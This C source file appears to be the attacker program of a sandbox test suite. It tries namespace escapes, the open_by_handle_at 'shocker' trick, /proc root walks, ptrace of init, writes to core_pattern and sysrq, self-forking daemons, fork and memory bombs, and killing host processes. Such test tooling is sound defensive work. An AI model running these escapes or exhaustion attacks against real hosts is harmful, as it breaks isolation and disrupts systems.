// The attacker: one static program, one sub-command for each attack of the table. It prints "WON"
// when the attack went through as far as it can tell, "LOST" else; the host judges by what it sees
// itself where that is possible. Nothing in it does harm when it wins: it opens and does not write,
// asks and does not use.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <mqueue.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static int won(const char* how) {
  printf("WON %s\n", how);
  return 0;
}
// For attacks of several parts: each that went through is told, so that each has its own control.
static int wins;
static void tell(const char* how) {
  wins += won(how) == 0;
}
static int number(const char* text) {
  return (int)strtol(text, 0, 10);
}
static int lost(void) {
  printf("LOST %s\n", strerror(errno));
  return 1;
}

static int verdict(void) {
  return wins ? 0 : lost();
}

static int unshare_user(void) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) return won("unshare");
  long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  if (pid > 0) return won("clone");
  return lost();
}

static int unshare_i386(void) {
  long answer = -1;
  pid_t child = fork();
  if (child == 0) {
    __asm__ volatile("int $0x80" : "=a"(answer) : "a"(310L), "b"((long)CLONE_NEWUSER) : "memory");
    _exit(answer == 0 ? 0 : 1);
  }
  int status = 0;
  waitpid(child, &status, 0);
  if (WIFEXITED(status) && WEXITSTATUS(status) == 0) return won("int 0x80");
  return lost();
}

static int setns_init(void) {
  int fd = open("/proc/1/ns/mnt", O_RDONLY);
  if (fd < 0) fd = open("/proc/self/ns/mnt", O_RDONLY);
  if (fd >= 0 && setns(fd, CLONE_NEWNS) == 0) return won("setns");
  return lost();
}

static int mount_something(void) {
  if (mount("x", "/tmp", "tmpfs", 0, 0) == 0) tell("mount");
  if (mount("/", "/tmp", 0, MS_BIND, 0) == 0) tell("bind");
  if (fsopen("tmpfs", 0) >= 0) tell("fsopen");
  if (open_tree(AT_FDCWD, "/", OPEN_TREE_CLONE) >= 0) tell("open_tree");
  return verdict();
}

static int change_root(void) {
  mkdir("/tmp/r", 0755);
  if (chroot("/tmp/r") == 0) return won("chroot");
  if (syscall(SYS_pivot_root, "/tmp/r", "/tmp/r") == 0) return won("pivot_root");
  return lost();
}

static int file_handle(void) {
  struct {
    struct file_handle head;
    unsigned char bytes[128];
  } handle;
  memset(&handle, 0, sizeof handle);
  handle.head.handle_bytes = 128;
  int mount_id = 0;
  int root = open("/usr", O_RDONLY | O_DIRECTORY);
  if (name_to_handle_at(AT_FDCWD, "/usr/bin", &handle.head, &mount_id, 0) < 0) {
    // The "shocker" handle: ext4's root inode.
    handle.head.handle_bytes = 8;
    handle.head.handle_type = 1;
    handle.bytes[0] = 2;
  }
  if (open_by_handle_at(root, &handle.head, O_RDONLY) >= 0) return won("open_by_handle_at");
  return lost();
}

static int make_device(void) {
  if (mknod("/tmp/mem", S_IFCHR | 0666, 0x0103) == 0) return won("mknod");
  DIR* dev = opendir("/dev");
  for (struct dirent* entry; dev && (entry = readdir(dev));) {
    const char* known[] = {"null", "zero", "full",  "random", "urandom",
                           "shm",  "fd",   "stdin", "stdout", "stderr"};
    int expected = entry->d_name[0] == '.';
    for (size_t i = 0; i < sizeof known / sizeof *known; ++i)
      expected |= !strcmp(entry->d_name, known[i]);
    if (!expected) return won(entry->d_name);
  }
  return lost();
}

static int show(const char* path) {
  char text[256] = {0};
  int fd = open(path, O_RDONLY);
  if (fd < 0 || read(fd, text, sizeof text - 1) <= 0) return 0;
  printf("%s\n", text);  // the host looks for its secret
  return 1;
}

static int walk_to(const char* canary) {
  char path[4096];
  const char* doors[] = {"",
                         "/proc/self/root",
                         "/proc/1/root",
                         "/proc/self/cwd/../../../..",
                         "/proc/1/cwd/../../..",
                         "/proc/self/fd/3/..",
                         "/tmp/../../.."};
  for (size_t i = 0; i < sizeof doors / sizeof *doors; ++i) {
    snprintf(path, sizeof path, "%s%s", doors[i], canary);
    show(path);
  }
  for (int fd = 0; fd < 64; ++fd) {
    for (int pid = 1; pid < 4; ++pid) {
      snprintf(path, sizeof path, "/proc/%d/fd/%d%s", pid, fd, canary);
      show(path);
    }
    snprintf(path, sizeof path, "/proc/self/fd/%d%s", fd, canary);
    show(path);
  }
  symlink(canary, "/tmp/link");
  show("/tmp/link");
  return lost();
}

static int set_user_id(void) {
  pid_t child = fork();
  if (child == 0) {
    execl("/var/task/suid", "suid", "euid", (char*)0);
    _exit(1);
  }
  int status = 0;
  waitpid(child, &status, 0);
  return lost();
}
static int print_euid(void) {
  return geteuid() != getuid() ? won("set-user-id") : lost();
}

static int trace_init(void) {
  char byte = 0;
  struct iovec mine = {&byte, 1}, theirs = {(void*)&byte, 1};
  if (process_vm_readv(1, &mine, 1, &theirs, 1, 0) >= 0) return won("process_vm_readv");
  if (open("/proc/1/mem", O_RDWR) >= 0 || open("/proc/1/mem", O_RDONLY) >= 0)
    return won("/proc/1/mem");
  if (ptrace(PTRACE_ATTACH, 1, 0, 0) == 0) return won("ptrace");
  return lost();
}

static int overwrite_runtime(void) {
  const char* targets[] = {"/proc/1/exe", "/usr/bin/env", "/var/task/victim"};
  for (int i = 0; i < 2; ++i) {
    if (open(targets[i], O_WRONLY) >= 0) return won(targets[i]);
  }
  int fd = open(targets[2], O_WRONLY);
  if (fd >= 0 && write(fd, "0wned", 5) == 5) return won(targets[2]);
  if (rename("/var/task/victim", "/var/task/other") == 0) return won("rename");
  return lost();
}

static int relative_to(const char* canary) {
  show(canary + 1);  // relative to the working directory that the host gave us
  return lost();
}

static int count_descriptors(void) {
  for (int fd = 4; fd < 65536; ++fd) {
    if (fcntl(fd, F_GETFD) >= 0) return won("descriptor");
  }
  return lost();
}

static int open_any(const char* const* paths, int flags) {
  for (; *paths; ++paths) {
    if (open(*paths, flags) >= 0) tell(*paths);
  }
  return verdict();
}

static int write_proc(void) {
  const char* const paths[] = {"/proc/sys/kernel/core_pattern",  "/proc/sysrq-trigger",
                               "/proc/sys/vm/drop_caches",       "/proc/sys/kernel/modprobe",
                               "/proc/irq/default_smp_affinity", 0};
  return open_any(paths, O_WRONLY);
}

static int read_kernel(void) {
  const char* const names[] = {
      "kcore",       "kallsyms",     "keys",    "key-users",  "timer_list", "sched_debug", "kmsg",
      "vmallocinfo", "pagetypeinfo", "cmdline", "interrupts", "modules",    "vmstat",      0};
  for (int i = 0; names[i]; ++i) {
    char path[64], byte;
    snprintf(path, sizeof path, "/proc/%s", names[i]);
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd >= 0 && read(fd, &byte, 1) == 1) tell(path);
  }
  const char* const devices[] = {"/dev/mem", "/dev/port", "/dev/kmsg", 0};
  return open_any(devices, O_RDONLY);
}

static int see_process(const char* pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/stat", pid);
  char text[64] = {0};
  int fd = open(path, O_RDONLY);
  if (fd >= 0 && read(fd, text, 63) > 0 && strstr(text, "hostile_test")) return won(path);
  return lost();
}

static int print_proc_self(void) {
  const char* const names[] = {"mountinfo", "cgroup", "environ", "mounts", 0};
  for (int i = 0; names[i]; ++i) {
    char path[64], text[65536];
    snprintf(path, sizeof path, "/proc/self/%s", names[i]);
    int fd = open(path, O_RDONLY);
    ssize_t got;
    while (fd >= 0 && (got = read(fd, text, sizeof text)) > 0) fwrite(text, 1, (size_t)got, stdout);
  }
  return lost();
}

static int reach_groups(void) {
  if (open("/sys/fs/cgroup", O_RDONLY) >= 0) return won("/sys/fs/cgroup");
  mkdir("/tmp/cg", 0755);
  if (mount("x", "/tmp/cg", "cgroup2", 0, 0) == 0) return won("cgroup2");
  return lost();
}

static int reach_sysfs(void) {
  if (open("/sys/kernel", O_RDONLY) >= 0) return won("/sys");
  mkdir("/tmp/sys", 0755);
  if (mount("x", "/tmp/sys", "sysfs", 0, 0) == 0) return won("sysfs");
  return lost();
}

static int read_kernel_log(void) {
  char text[64];
  if (klogctl(3, text, sizeof text) >= 0) return won("syslog");
  if (open("/dev/kmsg", O_RDONLY) >= 0) return won("kmsg");
  return lost();
}

static int kernel_interfaces(void) {
  if (syscall(SYS_add_key, "user", "a", "b", 1, -3) >= 0) tell("add_key");
  if (syscall(SYS_keyctl, 0, -3, 0) >= 0) tell("keyctl");
  if (syscall(SYS_userfaultfd, 1) >= 0) tell("userfaultfd");
  if (syscall(SYS_io_uring_setup, 1, calloc(1, 256)) >= 0) tell("io_uring");
  // An array map of one element: type 2, key 4, value 4, entries 1.
  unsigned attr[32] = {2, 4, 4, 1};
  if (syscall(SYS_bpf, 0, attr, sizeof attr) >= 0) tell("bpf");
  unsigned event[32] = {1, sizeof event, 1};  // a software event of this process, not of the kernel
  event[10] = 1u << 5 | 1u << 6;
  if (syscall(SYS_perf_event_open, event, 0, -1, -1, 0) >= 0) tell("perf");
  return verdict();
}

static int odd_sockets(void) {
  const struct {
    const char* name;
    int family, type, protocol;
  } kinds[] = {{"uevent", AF_NETLINK, SOCK_RAW, NETLINK_KOBJECT_UEVENT},
               {"xfrm", AF_NETLINK, SOCK_RAW, NETLINK_XFRM},
               {"nfnetlink", AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER},
               {"audit", AF_NETLINK, SOCK_RAW, NETLINK_AUDIT},
               {"alg", AF_ALG, SOCK_SEQPACKET, 0},
               {"vsock", AF_VSOCK, SOCK_STREAM, 0},
               {"packet", AF_PACKET, SOCK_RAW, 0},
               {"key", AF_KEY, SOCK_RAW, 2},
               {"icmp", AF_INET, SOCK_DGRAM, 1},
               {"raw", AF_INET, SOCK_RAW, 1},
               {"sctp", AF_INET, SOCK_STREAM, 132},
               {"mptcp", AF_INET, SOCK_STREAM, 262},
               {"can", AF_CAN, SOCK_RAW, 1},
               {"xdp", 44, SOCK_RAW, 0}};
  for (size_t i = 0; i < sizeof kinds / sizeof *kinds; ++i) {
    if (socket(kinds[i].family, kinds[i].type, kinds[i].protocol) >= 0) tell(kinds[i].name);
  }
  return verdict();
}

static int process_controls(void) {
  if (prctl(PR_SET_DUMPABLE, 1) == 0) tell("dumpable");
  if (prctl(PR_SET_KEEPCAPS, 1) == 0) tell("keepcaps");
  return verdict();
}

enum { shared_key = 0x77a11 };
static int leave_residue(void) {
  int fd = open("/tmp/residue", O_CREAT | O_WRONLY, 0666);
  if (fd >= 0) (void)!write(fd, "r", 1);
  (void)open("/dev/shm/residue", O_CREAT | O_WRONLY, 0666);
  (void)shmget(shared_key, 4096, IPC_CREAT | 0666);
  (void)mq_open("/residue", O_CREAT | O_RDWR, 0666, 0);
  return lost();
}
static int find_residue(void) {
  if (access("/tmp/residue", F_OK) == 0) return won("/tmp");
  if (access("/dev/shm/residue", F_OK) == 0) return won("/dev/shm");
  if (shmget(shared_key, 0, 0) >= 0) return won("shared memory");
  if (mq_open("/residue", O_RDONLY) != (mqd_t)-1) return won("queue");
  return lost();
}

static int outlive(void) {
  signal(SIGTERM, SIG_IGN);
  for (int i = 0; i < 8; ++i) {
    if (fork() == 0) {
      setsid();
      if (fork() != 0) _exit(0);
      signal(SIGTERM, SIG_IGN);
      if (i & 1) raise(SIGSTOP);
      for (;;) getppid();
    }
  }
  write(1, "up\n", 3);
  for (;;) pause();
}

// As outlive(), and each of the daemons goes on forking daemons.
static int swarm(void) {
  signal(SIGTERM, SIG_IGN);
  signal(SIGCHLD, SIG_IGN);
  for (int i = 0; i < 8; ++i) {
    if (fork() != 0) continue;
    setsid();
    if (fork() != 0) _exit(0);
    if (i & 1) raise(SIGSTOP);
    for (;;) {
      if (fork() == 0) setsid();
    }
  }
  write(1, "up\n", 3);
  for (;;) pause();
}

static int fork_bomb(const char* limit) {
  int count = 0;
  // Twice the limit is won; more would only take time.
  for (; count < 2 * number(limit); ++count) {
    pid_t child = fork();
    if (child < 0) break;
    if (child == 0) {
      pause();
      _exit(0);
    }
  }
  return count > number(limit) ? won("forks") : lost();
}

static int memory_bomb(const char* mib) {
  const size_t size = (size_t)number(mib) << 20;
  char* memory = mmap(0, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (memory == MAP_FAILED) return lost();
  for (size_t at = 0; at < size; at += 4096) memory[at] = 1;
  return won("memory");
}

static int priority(void) {
  struct sched_param param = {.sched_priority = 1};
  if (sched_setscheduler(0, SCHED_FIFO, &param) == 0) return won("real time");
  if (setpriority(PRIO_PROCESS, 0, -10) == 0) return won("nice");
  return lost();
}

static int fill_disk(const char* mib) {
  static char block[1 << 20];
  int fd = open("/tmp/fill", O_CREAT | O_WRONLY, 0600);
  for (int i = 0; i < number(mib); ++i) {
    if (write(fd, block, sizeof block) != sizeof block) return lost();
  }
  return won("disk");
}
static int fill_inodes(const char* count) {
  for (int i = 0; i < number(count); ++i) {
    char path[32];
    snprintf(path, sizeof path, "/tmp/i%d", i);
    int fd = open(path, O_CREAT | O_WRONLY, 0600);
    if (fd < 0) return lost();
    close(fd);
  }
  return won("inodes");
}

static int exhaust_descriptors(const char* limit) {
  int count = 0;
  while (count < 20000 && dup(0) >= 0) ++count;
  return count > number(limit) ? won("descriptors") : lost();
}

static int kill_process(const char* pid) {
  const pid_t target = (pid_t)number(pid);
  if (kill(target, SIGKILL) == 0) return won("kill");
  int pidfd = (int)syscall(SYS_pidfd_open, target, 0);
  if (pidfd >= 0 && syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, 0, 0) == 0) return won("pidfd");
  if (syscall(SYS_tgkill, target, target, SIGKILL) == 0) return won("tgkill");
  return lost();
}
static int signal_by_owner(const char* pid) {
  int pair[2];
  socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
  if (fcntl(pair[0], F_SETOWN, number(pid)) < 0) return lost();
  fcntl(pair[0], F_SETSIG, SIGKILL > 0 ? SIGIO : 0);
  fcntl(pair[0], F_SETFL, O_ASYNC);
  (void)!write(pair[1], "x", 1);
  usleep(50000);  // allowed: a poll
  return won("owner");
}

int main(int argc, char** argv) {
  setvbuf(stdout, 0, _IONBF, 0);
  const char* what = argc > 1 ? argv[1] : "";
  const char* more = argc > 2 ? argv[2] : "";
  const struct {
    const char* name;
    int (*plain)(void);
    int (*with)(const char*);
  } attacks[] = {{"unshare", unshare_user, 0},  {"i386", unshare_i386, 0},
                 {"setns", setns_init, 0},      {"mount", mount_something, 0},
                 {"chroot", change_root, 0},    {"handle", file_handle, 0},
                 {"device", make_device, 0},    {"walk", 0, walk_to},
                 {"suid", set_user_id, 0},      {"euid", print_euid, 0},
                 {"trace", trace_init, 0},      {"overwrite", overwrite_runtime, 0},
                 {"relative", 0, relative_to},  {"descriptors", count_descriptors, 0},
                 {"write-proc", write_proc, 0}, {"read-kernel", read_kernel, 0},
                 {"see", 0, see_process},       {"proc-self", print_proc_self, 0},
                 {"groups", reach_groups, 0},   {"sysfs", reach_sysfs, 0},
                 {"klog", read_kernel_log, 0},  {"interfaces", kernel_interfaces, 0},
                 {"sockets", odd_sockets, 0},   {"prctl", process_controls, 0},
                 {"leave", leave_residue, 0},   {"find", find_residue, 0},
                 {"outlive", outlive, 0},       {"swarm", swarm, 0},
                 {"forks", 0, fork_bomb},       {"memory", 0, memory_bomb},
                 {"priority", priority, 0},     {"disk", 0, fill_disk},
                 {"inodes", 0, fill_inodes},    {"files", 0, exhaust_descriptors},
                 {"kill", 0, kill_process},     {"owner", 0, signal_by_owner}};
  for (size_t i = 0; i < sizeof attacks / sizeof *attacks; ++i) {
    if (strcmp(attacks[i].name, what)) continue;
    return attacks[i].plain ? attacks[i].plain() : attacks[i].with(more);
  }
  return 2;
}
